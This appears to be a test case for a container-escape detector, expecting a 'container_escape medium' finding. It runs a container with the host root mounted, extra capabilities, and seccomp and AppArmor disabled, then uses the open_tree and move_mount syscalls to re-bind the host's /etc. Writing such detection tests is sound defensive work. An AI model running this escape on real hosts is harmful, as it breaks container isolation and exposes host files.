# about: the host's mount is bound anew with the new mount calls
# expect: container_escape medium
# where: container
# needs: docker
container -v /:/host --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_CHROOT --cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined --security-opt apparmor=unconfined -- \
    python3 -c 'import ctypes
libc=ctypes.CDLL(None,use_errno=True)
fd=libc.syscall(428,-100,b"/host/etc",1)
import os; os.makedirs("/tmp/m",exist_ok=True)
print(fd,libc.syscall(429,fd,b"",-100,b"/tmp/m",4))' || true
